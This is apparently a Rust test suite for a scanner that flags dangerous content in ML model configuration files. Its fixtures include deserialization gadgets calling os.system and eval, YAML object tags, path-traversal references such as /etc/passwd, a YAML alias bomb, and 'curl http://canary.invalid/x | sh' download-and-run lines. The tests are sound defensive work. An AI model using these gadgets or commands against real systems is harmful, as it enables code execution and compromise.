use std::{path::Path, sync::LazyLock};

use jingwei_core::Limits;
use jingwei_read::{Inspection, NameList, NameTable};
use jingwei_template::{inspect_config, inspect_settings, inspect_yaml};
use proptest::prelude::*;

pub static NAMES: LazyLock<NameTable> = LazyLock::new(|| {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../catalog/names/config-targets.toml");
    let list: NameList = toml::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
    NameTable::new([&list])
});

fn json(file: &str, text: &str) -> Inspection {
    inspect_config(&mut text.as_bytes(), file, &NAMES, &Limits::default())
}

fn yaml(text: &str) -> Inspection {
    inspect_yaml(&mut text.as_bytes(), "config.yaml", &NAMES, &Limits::default())
}

/// Rule and key of each sighting.
fn seen(inspection: &Inspection) -> Vec<(&'static str, &str)> {
    inspection.sightings.iter().map(|s| (s.rule, s.key.as_deref().unwrap_or_default())).collect()
}

/// A file name, its text, and rule and key of each sighting.
type Case<'a> = (&'a str, &'a str, &'a [(&'a str, &'a str)]);

fn check_json(cases: &[Case<'_>]) {
    for (file, text, expected) in cases {
        assert_eq!(seen(&json(file, text)), *expected, "{file}: {text}");
    }
}

const REMOTE: &str = "model.remote-code";
const REPOSITORY: &str = "model.config-remote-repository";
const DANGEROUS: &str = "model.config-dangerous-target";
const UNKNOWN: &str = "model.config-unknown-target";
const OUTSIDE: &str = "model.config-outside-reference";
const DUPLICATE: &str = "model.config-duplicate-key";
const CONFLICT: &str = "model.config-duplicate-security-key";

#[test]
fn code_that_comes_with_a_model_is_seen() {
    check_json(&[
        ("config.json", r#"{"auto_map": {"AutoModel": "modeling_x.X"}}"#, &[(REMOTE, "auto_map")]),
        ("config.json", r#"{"auto_map": {"AutoTokenizer": ["tok.T", null]}}"#, &[(REMOTE, "auto_map")]),
        ("config.json", r#"{"auto_map": {}, "trust_remote_code": false}"#, &[]),
        ("config.json", r#"{"a": {"trust_remote_code": true}}"#, &[(REMOTE, "trust_remote_code")]),
        ("config.json", r#"{"custom_pipelines": {"x": {"impl": "p.P"}}}"#, &[(REMOTE, "custom_pipelines")]),
        (
            "config.json",
            r#"{"auto_map": {"AutoModel": "someone/other--modeling_x.X"}}"#,
            &[(REPOSITORY, "someone/other"), (REMOTE, "auto_map")],
        ),
        ("model_index.json", r#"{"_class_name": ["pipeline_x", "P"]}"#, &[(REMOTE, "_class_name")]),
    ]);
}

#[test]
fn objects_of_jsonpickle_are_told() {
    check_json(&[
        ("a.json", r#"{"a": {"py/object": "pickle.Unpickler"}}"#, &[(DANGEROUS, "pickle.Unpickler")]),
        (
            "a.json",
            r#"{"py/reduce": [{"py/type": "shutil.rmtree"}, {"py/tuple": ["x"]}]}"#,
            &[(DANGEROUS, "shutil.rmtree")],
        ),
        ("a.json", r#"{"a": {"py/object": "collections.OrderedDict"}, "py_version": "3.11"}"#, &[]),
    ]);
    // In lines, the value stands before an object and behind others.
    for (call, expected) in [("os.system", vec![(DANGEROUS, "os.system")]), ("collections.Counter", vec![])] {
        let line = r#"{"text": "bye", "meta": {"py/reduce": [{"py/function": "CALL"}, {"py/tuple": ["inert"]}]}}"#;
        let text = format!("{{\"text\": \"hello\"}}\n{}\n", line.replace("CALL", call));
        let inspection = json("train.jsonl", &text);
        let seen: Vec<_> =
            seen(&inspection).into_iter().filter(|(rule, _)| *rule != "model.header-malformed").collect();
        assert_eq!(seen, expected, "{text}");
    }
}

#[test]
fn targets_are_looked_up_wherever_they_stand() {
    check_json(&[
        ("c.json", r#"{"optim": {"_target_": "torch.optim.AdamW", "lr": 1}}"#, &[]),
        ("c.json", r#"{"a": [{"_target_": "os.system", "command": "inert"}]}"#, &[(DANGEROUS, "os.system")]),
        ("c.json", r#"{"_target_": "\u006fs.system"}"#, &[(DANGEROUS, "os.system")]),
        ("c.json", r#"{"class_path": "builtins.eval"}"#, &[(DANGEROUS, "builtins.eval")]),
        ("c.json", r#"{"class_path": "my_code.Net"}"#, &[(UNKNOWN, "my_code.Net")]),
        ("c.json", r#"{"target": "ldm.models.x.X", "params": {}}"#, &[]),
        ("c.json", r#"{"target": "mine.models.x.X", "params": {}}"#, &[(UNKNOWN, "mine.models.x.X")]),
        ("c.json", r#"{"target": "index.html"}"#, &[]),
        ("c.json", r#"{"target": "subprocess.run", "params": {}}"#, &[(DANGEROUS, "subprocess.run")]),
        ("c.json", r#"{"_target_": "hydra.utils.get_method", "path": "os.system"}"#, &[(DANGEROUS, "os.system")]),
        ("c.json", r#"{"x": "os.system", "_target_": "${x}"}"#, &[(DANGEROUS, "os.system")]),
        ("c.json", r#"{"x": "os.path", "y": "${z}"}"#, &[]),
        ("c.json", r#"{"device": "$torch.device('cuda' if torch.cuda.is_available() else 'cpu')"}"#, &[]),
        ("c.json", r#"{"x": "$__import__('os').system('inert')"}"#, &[(DANGEROUS, "os.system")]),
        ("c.json", r#"{"x": "$eval('1')"}"#, &[(DANGEROUS, "builtins.eval")]),
        ("modules.json", r#"[{"idx": 0, "type": "sentence_transformers.models.Transformer"}]"#, &[]),
        ("modules.json", r#"[{"idx": 0, "type": "os.system"}]"#, &[(DANGEROUS, "os.system")]),
        ("modules.json", r#"[{"idx": 0, "type": "custom_st.Transformer"}]"#, &[(UNKNOWN, "custom_st.Transformer")]),
        ("config.json", r#"{"activation_function": "torch.nn.modules.activation.Tanh"}"#, &[]),
        ("config.json", r#"{"activation_function": "gelu_new"}"#, &[]),
        ("config.json", r#"{"activation_function": "os.abort"}"#, &[(DANGEROUS, "os.abort")]),
        (
            "model_index.json",
            r#"{"unet": ["diffusers", "UNet"], "safety_checker": ["stable_diffusion", "S"], "x": [null, null]}"#,
            &[],
        ),
        ("model_index.json", r#"{"unet": ["os", "system"]}"#, &[(DANGEROUS, "os.system")]),
        ("model_index.json", r#"{"unet": ["my_unet", "Net"]}"#, &[(UNKNOWN, "my_unet.Net")]),
    ]);
}

#[test]
fn references_stay_with_the_model() {
    check_json(&[
        ("adapter_config.json", r#"{"base_model_name_or_path": "org/model"}"#, &[]),
        ("adapter_config.json", r#"{"base_model_name_or_path": "./base"}"#, &[]),
        (
            "adapter_config.json",
            r#"{"base_model_name_or_path": "https://canary.invalid/x"}"#,
            &[(OUTSIDE, "base_model_name_or_path")],
        ),
        (
            "adapter_config.json",
            r#"{"base_model_name_or_path": "/srv/models/x"}"#,
            &[(OUTSIDE, "base_model_name_or_path")],
        ),
        (
            "adapter_config.json",
            r#"{"base_model_name_or_path": "C:\\models\\x"}"#,
            &[(OUTSIDE, "base_model_name_or_path")],
        ),
        ("config.json", r#"{"_name_or_path": "/home/somebody/checkpoint-100"}"#, &[]),
        ("tokenizer_config.json", r#"{"tokenizer_file": null, "vocab_file": "/home/somebody/vocab.txt"}"#, &[]),
        ("tokenizer_config.json", r#"{"tokenizer_file": "/etc/passwd"}"#, &[(OUTSIDE, "tokenizer_file")]),
        ("tokenizer_config.json", r#"{"vocab_file": "../../other/vocab.txt"}"#, &[(OUTSIDE, "vocab_file")]),
        ("tokenizer_config.json", r#"{"vocab_file": "\\\\canary.invalid\\share"}"#, &[(OUTSIDE, "vocab_file")]),
    ]);
}

#[test]
fn a_key_that_stands_twice_is_told() {
    check_json(&[
        ("c.json", r#"{"a": 1, "a": 2}"#, &[(DUPLICATE, "a")]),
        ("c.json", r#"{"architectures": ["A"], "architectures": ["A"]}"#, &[(DUPLICATE, "architectures")]),
        ("c.json", r#"{"architectures": ["A"], "architectures": ["B"]}"#, &[(CONFLICT, "architectures")]),
        ("c.json", r#"{"auto_map": {"A": "b.C"}, "auto_map": {}}"#, &[(REMOTE, "auto_map"), (CONFLICT, "auto_map")]),
        ("tokenizer.json", r#"{"model": {"vocab": {"a": 1, "a": 2}}}"#, &[]),
    ]);
}

#[test]
fn templates_and_hidden_characters_in_configurations_are_seen() {
    check_json(&[
        (
            "tokenizer_config.json",
            r#"{"chat_template": "{{ ''.__class__ }}"}"#,
            &[("model.template-code", "__class__")],
        ),
        (
            "tokenizer_config.json",
            r#"{"chat_template": [{"name": "default", "template": "{{ ''.__class__ }}"}]}"#,
            &[("model.template-code", "__class__")],
        ),
        ("tokenizer_config.json", r#"{"chat_template": "{{ messages[0].content }}"}"#, &[]),
        ("config.json", "{\"x\": \"a\u{202e}bc\"}", &[("model.template-hidden-characters", "direction")]),
        ("tokenizer.json", "{\"added_tokens\": [{\"content\": \"\u{202e}\"}]}", &[]),
        ("tokenizer.json", "{\"model\": {\"vocab\": {\"\u{202e}a\": 1}, \"merges\": [\"\u{202e}a b\"]}}", &[]),
        ("vocab.json", "{\"\u{202e}abc\": 1}", &[]),
        ("tekken.json", "{\"vocab\": [{\"token_str\": \"\u{202e}abc\"}]}", &[]),
    ]);
}

#[test]
fn what_python_reads_is_read_and_what_is_broken_is_told() {
    check_json(&[
        ("c.json", "\u{feff}{\"auto_map\": {\"a\": \"b\"}}", &[(REMOTE, "auto_map")]),
        ("c.json", r#"{"limit": [0.0, Infinity], "auto_map": {"a": "b"}}"#, &[(REMOTE, "auto_map")]),
        ("c.json", r#"{"n": 1000000000000000019884624838656}"#, &[]),
        (
            "schema.json",
            r#"{"__class__": "methodcaller", "__module__": "sklearn.x", "__loader__": "OperatorFuncNode"}"#,
            &[("model.config-dangerous-target", "operator.methodcaller")],
        ),
        ("latest", r#"{"layers": [{"digest": "sha256:../../x"}]}"#, &[("model.config-outside-reference", "digest")]),
        ("latest", r#"{"layers": [{"digest": "sha256:00ff"}]}"#, &[]),
        ("a.json", r#"{"digest": "q/PBIJoWn0lT=", "image": {"digest": "docker.io/library/x@sha256:00ff"}}"#, &[]),
        (
            "sha256-00ff",
            r#"{"remote_host": "https://a.example"}"#,
            &[("model.config-outside-reference", "remote_host")],
        ),
        (
            "adapter_config.json",
            r#"{"corda_config": {"cache_file": "../x.pt"}}"#,
            &[("model.config-outside-reference", "cache_file")],
        ),
        (
            "config.json",
            r#"{"pretrained_cfg": {"url": "https://a.example/x.pth"}}"#,
            &[("model.config-outside-reference", "url")],
        ),
        ("config.json", r#"{"n_layer": 4294967296}"#, &[("model.config-huge-size", "n_layer")]),
        ("vocab.json", r#"{"n_layer": 4294967296}"#, &[]),
        ("c.json", "[]", &[]),
        ("c.json", "", &[("model.header-malformed", "")]),
        ("c.json", "{\"trust_remote_code\": true, ", &[(REMOTE, "trust_remote_code"), ("model.header-malformed", "")]),
        ("c.json", "{} {}", &[("model.header-malformed", "")]),
    ]);
    let facts = json("config.json", r#"{"architectures": ["LlamaForCausalLM"]}"#).facts;
    assert_eq!(facts.more.get("architecture").map(String::as_str), Some("LlamaForCausalLM"));
}

#[test]
fn every_limit_is_a_sighting() {
    let all = Limits::default();
    for (text, limits, key) in [
        ("[[[[[1]]]]]".to_owned(), Limits { depth: 3, ..all }, "depth"),
        (format!("{}1{}", "[".repeat(300), "]".repeat(300)), Limits { depth: 1_000, ..all }, "depth"),
        ("[1, 2, 3, 4, 5]".to_owned(), Limits { entries: 1, ..all }, "entries"),
        ("{\"a\": [1, 2], \"b\": [1, 2]}".to_owned(), Limits { entries: 1, ..all }, "entries"),
        ("[\"abcdef\"]".to_owned(), Limits { string_bytes: 5, ..all }, "string_bytes"),
        ("[\"abcdef\"]".to_owned(), Limits { header_bytes: 5, ..all }, "header_bytes"),
    ] {
        let inspection = inspect_config(&mut text.as_bytes(), "c.json", &NAMES, &limits);
        assert_eq!(seen(&inspection), [("model.limit-exceeded", key)], "{text}");
    }
    let lines = inspect_yaml(&mut &b"a: 1\nb: 2\n"[..], "c.yaml", &NAMES, &Limits { entries: 1, ..all });
    assert_eq!(seen(&lines), [("model.limit-exceeded", "entries")]);
    // A vocabulary does not count: its entries are no settings.
    let vocabulary = "{\"model\": {\"vocab\": {\"a\": 0, \"b\": 1, \"c\": 2, \"d\": 3}}}";
    let inspection =
        inspect_config(&mut vocabulary.as_bytes(), "tokenizer.json", &NAMES, &Limits { entries: 3, ..all });
    assert_eq!(seen(&inspection), []);
}

#[test]
fn yaml_is_read_by_its_lines() {
    for (text, expected) in [
        ("model:\n  _target_: nemo.collections.asr.models.X # fine\n", &[][..]),
        ("# _target_: os.system\nx: 'a # b'\n", &[]),
        ("a:\n  _target_: os.system\n", &[(DANGEROUS, "os.system")]),
        ("a: {_target_: \"os.system\", b: 1}\n", &[(DANGEROUS, "os.system")]),
        ("- _target_ : 'os.system'\n", &[(DANGEROUS, "os.system")]),
        ("\"_target_\":\n  os.system\n", &[(DANGEROUS, "os.system")]),
        ("\"\\x5ftarget_\": \"os\\x2esystem\"\n", &[(DANGEROUS, "os.system")]),
        ("_target_: >-\n  os.system\n", &[(DANGEROUS, "os.system")]),
        ("? _target_\n: os.system\n", &[(DANGEROUS, "os.system")]),
        ("a: &x os.system\n_target_: *x\n", &[(DANGEROUS, "os.system")]),
        ("_target_: !!str os.system\n", &[(DANGEROUS, "os.system")]),
        ("a: os.system\n_target_: ${a}\n", &[(DANGEROUS, "os.system")]),
        ("a: !!python/object/apply:os.system [inert]\n", &[(DANGEROUS, "!!python/object/apply:os.system")]),
        ("a: !!python/tuple [1, 2]\n", &[]),
        ("net: !new:speechbrain.nnet.X\nrun: !apply:os.system [inert]\n", &[(DANGEROUS, "os.system")]),
        ("class_path: mine.Net\ninit_args:\n  a: 1\n", &[(UNKNOWN, "mine.Net")]),
        ("model:\n  target: ldm.models.X\n  params:\n    a: 1\n", &[]),
        ("model:\n  target: mine.models.X\n  params:\n    a: 1\n", &[(UNKNOWN, "mine.models.X")]),
        ("trust_remote_code: true\n", &[(REMOTE, "trust_remote_code")]),
        ("trust_remote_code: false\n", &[]),
        ("url: http://a:b\ntime: 12:30\n: : :\n[{,}]\n", &[]),
    ] {
        assert_eq!(seen(&yaml(text)), expected, "{text}");
    }
    let broken = inspect_yaml(&mut &b"a: 1\n\xff"[..], "c.yaml", &NAMES, &Limits::default());
    assert_eq!(seen(&broken), [("model.header-malformed", "")]);
}

#[test]
fn what_other_loaders_follow_is_read() {
    check_json(&[
        (
            "adapter_config.json",
            r#"{"a": {"parent_library": "mine", "base_model_class": "Net"}}"#,
            &[(UNKNOWN, "mine.Net")],
        ),
        ("adapter_config.json", r#"{"a": {"parent_library": "__main__", "base_model_class": "Net"}}"#, &[]),
        (
            "adapter_config.json",
            r#"{"a": {"parent_library": "transformers.models.bert", "base_model_class": "B"}}"#,
            &[],
        ),
        ("c.json", r#"{"lc": 1, "type": "constructor", "id": ["os", "system"]}"#, &[(DANGEROUS, "os.system")]),
        ("c.json", r#"{"lc": 1, "type": "constructor", "id": ["langchain", "llms", "OpenAI"]}"#, &[]),
        (
            "chain.json",
            r#"{"kwargs": {"openai_api_key": {"lc": 1, "type": "secret", "id": ["AWS_SECRET_ACCESS_KEY"]},
                "openai_api_base": "https://example.invalid/v1"}}"#,
            &[(OUTSIDE, "openai_api_base")],
        ),
        (
            "chain.json",
            r#"{"kwargs": {"openai_api_key": {"lc": 1, "type": "secret", "id": ["OPENAI_API_KEY"]},
                "openai_api_base": "https://api.openai.com/v1"}}"#,
            &[],
        ),
        (
            "workflow.json",
            r#"{"2": {"class_type": "ExecPythonNode", "inputs": {"code": "x"}}}"#,
            &[(UNKNOWN, "ExecPythonNode")],
        ),
        ("workflow.json", r#"{"2": {"class_type": "KSampler", "inputs": {"seed": 1}}}"#, &[]),
        ("urls.json", r#"{"tools": "http://192.0.2.7:8080/tools.exe"}"#, &[(OUTSIDE, "tools")]),
        ("urls.json", r#"{"tools": "https://example.com/tools.exe", "b": "http://10.0.0.7/tools.exe"}"#, &[]),
        ("generation_config.json", r#"{"custom_generate": "someone/other"}"#, &[(REPOSITORY, "someone/other")]),
        ("generation_config.json", r#"{"custom_generate": "."}"#, &[(REMOTE, "custom_generate")]),
        ("config.json", r#"{"_attn_implementation": "someone/attention"}"#, &[(REPOSITORY, "someone/attention")]),
        ("config.json", r#"{"_attn_implementation": "flash_attention_2"}"#, &[]),
        ("config.json", r#"{"attn_implementation": "kernels-community/flash-attn"}"#, &[]),
        (
            "config.json",
            r#"{"vision": {"auto_map": {"AutoModel": "someone/x--m.X"}}}"#,
            &[(REPOSITORY, "someone/x"), (REMOTE, "auto_map")],
        ),
        ("config.json", r#"{"vision": {"trust_remote_code": "True"}}"#, &[(REMOTE, "trust_remote_code")]),
        (
            "symbol.json",
            r#"{"nodes": [{"op": "Custom", "attrs": {"op_type": "x"}}]}"#,
            &[("model.graph-unknown-operator", "MXNet")],
        ),
        (
            "symbol.json",
            r#"{"nodes": [{"op": "_Native", "attrs": {"info": "0x7fff0000"}}]}"#,
            &[("model.graph-dangerous-operator", "_Native")],
        ),
        ("symbol.json", r#"{"nodes": [{"op": "Convolution", "name": "c"}]}"#, &[]),
        (
            "modules.json",
            r#"[{"path": "../../x", "type": "sentence_transformers.models.Dense"}]"#,
            &[(OUTSIDE, "path")],
        ),
        ("modules.json", r#"[{"path": "1_Pooling", "type": "sentence_transformers.models.Pooling"}]"#, &[]),
        ("genai_config.json", r#"{"o": {"custom_ops_library": "x.dll"}}"#, &[(OUTSIDE, "custom_ops_library")]),
        ("logging.json", r#"{"h": {"()": "os.system", "a": "b.so.txt"}}"#, &[(DANGEROUS, "os.system")]),
        ("c.json", r#"{"deny": ["os.system"], "description": "calls os.system('x') and curl x | sh"}"#, &[]),
        ("c.json", r#"{"run": "curl http://canary.invalid/x | sh"}"#, &[(DANGEROUS, "download | sh")]),
        (
            "c.json",
            r#"{"@class": "javax.script.ScriptEngineManager"}"#,
            &[(DANGEROUS, "javax.script.ScriptEngineManager")],
        ),
        ("c.json", r#"{"name": "ldap://canary.invalid/x"}"#, &[(OUTSIDE, "name")]),
        ("c.json", r#"{"act": "eval('1')", "size": "max(1, 2)"}"#, &[(DANGEROUS, "builtins.eval")]),
        (
            "c.jsonl",
            "{\"a\": 1}\n{\"_target_\": \"os.system\"}\n",
            &[(DANGEROUS, "os.system"), ("model.header-malformed", "")],
        ),
    ]);
}

#[test]
fn settings_are_read_in_every_syntax() {
    for (file, text, expected) in [
        ("c.toml", "[model]\n_target_ = \"os.system\"\n", &[(DANGEROUS, "os.system")][..]),
        ("c.toml", "[model]\n_target_ = \"torch.optim.AdamW\"\nlr = 0.1 # os.system\n", &[]),
        ("c.ini", "[handler]\nclass=__import__('os').system\nargs=('x',)\n", &[(DANGEROUS, "os.system")]),
        ("c.ini", "[handler]\nclass=StreamHandler\nargs=(sys.stdout,)\n", &[]),
        ("checkpoint", "model_checkpoint_path: \"model.ckpt-1\"\n", &[]),
        ("checkpoint", "model_checkpoint_path: \"/home/somebody/model.ckpt-1\"\n", &[]),
        ("checkpoint", "model_checkpoint_path: \"../../x\"\n", &[(OUTSIDE, "model_checkpoint_path")]),
        ("config.pbtxt", "name: \"m\"\ndefault_model_filename: \"model.onnx\"\ndims: [ 1, 4 ]\n", &[]),
        ("config.pbtxt", "default_model_filename: \"../x\"\n", &[(OUTSIDE, "default_model_filename")]),
        ("config.pbtxt", "cc_model_filenames [{ key: \"7.5\" value: \"/srv/x.plan\" }]\n", &[(OUTSIDE, "value")]),
        (
            "config.pbtxt",
            "model_operations { op_library_filename: [\"a\", \"b.so\"] }\n",
            &[(OUTSIDE, "op_library_filename")],
        ),
        ("deploy.prototxt", "layer { python_param { module: \"mine\" layer: \"L\" } }\n", &[(UNKNOWN, "mine")]),
        ("deploy.prototxt", "layer { name: \"c\" type: \"Convolution\" }\n", &[]),
        ("run.gin", "import mine\ninclude '../x.gin'\na.b = 1\n", &[(UNKNOWN, "mine"), (OUTSIDE, "include")]),
        ("run.gin", "import torch.optim\nfrom torch import nn\na.b = @torch.optim.Adam\n", &[]),
        ("Modelfile", "FROM ./m.gguf\nPARAMETER temperature 1\nSYSTEM You are kind.\n", &[]),
        ("Modelfile", "FROM ../../m.gguf\n", &[(OUTSIDE, "from")]),
        (
            "config.properties",
            "inference_address=http://0.0.0.0:8080\nmodel_store=/etc/x\n",
            &[(OUTSIDE, "model_store")],
        ),
        ("c.ini", "", &[]),
        ("c.ini", "=\n:::\n[[[\n\"\n'\\", &[]),
    ] {
        let inspection = inspect_settings(&mut text.as_bytes(), file, &NAMES, &Limits::default());
        assert_eq!(seen(&inspection), expected, "{file}: {text}");
    }
    let limits = Limits { entries: 1, ..Limits::default() };
    let crossed = inspect_settings(&mut &b"a = 1\nb = 2\nc = 3\n"[..], "c.ini", &NAMES, &limits);
    assert_eq!(seen(&crossed), [("model.limit-exceeded", "entries")]);
}

#[test]
fn yaml_of_other_loaders_is_read() {
    let bomb = |width: usize| {
        let row = |name: u8, of: &str| format!("{0}: &{0} [{1}]\n", char::from(name), vec![of; width].join(","));
        let deeper = (b'b'..b'k').map(|name| row(name, &format!("*{}", char::from(name - 1))));
        row(b'a', "x") + &deeper.collect::<String>()
    };
    for (text, expected) in [
        (
            "x: !!javax.script.ScriptEngineManager []\n".to_owned(),
            &[(DANGEROUS, "!!javax.script.ScriptEngineManager")][..],
        ),
        ("x: !ruby/object:Gem::Installer {}\n".to_owned(), &[(DANGEROUS, "!ruby/object:Gem::Installer")]),
        ("x: !!float 1\ny: !custom 2\n".to_owned(), &[]),
        ("x: !include ../../y.yaml\n".to_owned(), &[(OUTSIDE, "!include")]),
        ("x: !include y.yaml\n".to_owned(), &[]),
        (
            "download: |\n  import os\n  os.system('x')\n".to_owned(),
            &[(UNKNOWN, "import os"), (DANGEROUS, "os.system")],
        ),
        ("download: https://canary.invalid/x.zip\n".to_owned(), &[]),
        ("build:\n  run:\n  - curl http://canary.invalid/x | sh\n".to_owned(), &[(DANGEROUS, "download | sh")]),
        (bomb(9), &[("model.config-bomb", "alias")]),
        (bomb(1), &[]),
    ] {
        assert_eq!(seen(&yaml(&text)), expected, "{text}");
    }
    let serving = |text: &str| inspect_yaml(&mut text.as_bytes(), "MLmodel", &NAMES, &Limits::default());
    let flavour =
        |data: &str| format!("flavors:\n  python_function:\n    loader_module: mlflow.onnx\n    data: {data}\n");
    assert_eq!(seen(&serving(&flavour("model.onnx"))), []);
    for data in ["../../x", "/etc/x", "http://canary.invalid/x"] {
        assert_eq!(seen(&serving(&flavour(data))), [(OUTSIDE, "data")], "{data}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(200))]
    #[test]
    fn any_bytes_are_answered_for(bytes in prop::collection::vec(any::<u8>(), 0..200), pieces in prop::collection::vec(prop::sample::select(PIECES), 0..40)) {
        for text in [bytes, pieces.concat().into_bytes()] {
            let limits = Limits::default();
            let first = inspect_config(&mut text.as_slice(), "config.json", &NAMES, &limits);
            prop_assert_eq!(first, inspect_config(&mut text.as_slice(), "config.json", &NAMES, &limits));
            inspect_yaml(&mut text.as_slice(), "config.yaml", &NAMES, &limits);
            inspect_settings(&mut text.as_slice(), "config.gin", &NAMES, &limits);
        }
    }
}

const PIECES: &[&str] = &[
    "{",
    "}",
    "[",
    "]",
    ":",
    ",",
    "\"",
    "'",
    "\"_target_\"",
    "os.system",
    "\n",
    "  ",
    "- ",
    "? ",
    "&a ",
    "*a",
    "!!python/name:",
    "${",
    "|",
    ">",
    "#",
    "\"auto_map\"",
    "true",
    "1e999",
    "NaN",
    "-Infinity",
    "\\u",
    "\\ud800",
    "\u{200b}",
    "é",
    "\"target\": \"a.B\"",
    "\"params\": 1",
    "%TAG",
    "---",
];
